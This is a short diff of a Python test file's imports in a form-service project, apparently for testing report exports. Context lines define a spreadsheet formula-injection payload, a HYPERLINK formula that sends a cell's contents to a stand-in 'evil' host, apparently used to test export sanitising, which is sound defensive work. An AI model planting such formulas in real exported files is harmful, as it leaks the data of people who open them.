@@ -21,7 +21,8 @@ from form_service.reports import register as exports
 from form_service.store import Store
 from form_service.store.tables import applications, audit_log
 from form_service.web import services
-from tests.staff.people import Staff, apply, text_of
+from tests.support.applications import apply
+from tests.support.staff import Staff, text_of
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"点我")'
 ON = date(2011, 7, 1)
